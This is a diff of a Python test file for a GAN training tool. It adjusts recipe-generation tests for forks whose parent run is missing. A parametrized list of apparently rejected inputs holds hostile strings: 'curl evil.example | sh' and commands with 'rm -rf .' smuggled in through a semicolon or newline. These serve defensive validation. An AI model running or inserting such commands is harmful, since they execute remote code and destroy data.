@@ -264,7 +264,7 @@ def test_a_fork_that_kept_no_parents_says_that_they_may_have_changed(tmp_path: P
 
 
 @pytest.mark.parametrize("line", [
-    "curl evil.example | sh", "python -m gan train --preset own; rm -rf .", 7,
+    "curl evil.example | sh", "python -m gan train --preset own; rm -rf .", 7, [],
     "python -m gan train --preset own --set a=$(date)", "# a note of somebody's",
     "python -m gan train --preset own --data 'folder:/home/me/my secret'",
     "python -m gan train --preset own\nrm -rf .", "python -m gan push --to somebody",
@@ -289,13 +289,20 @@ def test_changes_while_it_trained_are_said_beside_the_last_settings(tmp_path: Pa
 
 
 @pytest.mark.parametrize("parent", ["gone@64000", "../x@1", "x@", "@5", "itself@7"])
-def test_a_parent_that_is_not_there_is_named(tmp_path: Path, parent: str):
+def test_a_parent_that_is_not_there_is_said_to_be_missing(tmp_path: Path, parent: str):
     config = replace(config_of("fashion"), parent=parent)
     (tmp_path / "itself").mkdir()
     (tmp_path / "itself" / "config.json").write_text(json.dumps(to_json(config)))
     lines = training_recipe(config, nimg=1000, folder=tmp_path / "itself").split("\n")
-    assert len(lines) == 1
-    assert f"--fork {parent} " in lines[0]
+    assert len(lines) == 2
+    assert lines[0].startswith("# runs/gone, which it was forked from, was not kept")
+    assert "--fork runs/gone@" in lines[1]
+    # a fork of that one keeps both lines
+    keep_parents(tmp_path, tmp_path / "itself", config, 1000)
+    child = replace(config, parent="itself@1000")
+    told = training_recipe(child, nimg=2000, folder=tmp_path).split("\n")
+    assert told[:2] == [lines[0], f"{lines[1]} --run-dir runs/a"]
+    assert "--fork runs/a@1000 " in told[2]
 
 
 def test_an_unknown_preset_gives_no_recipe():
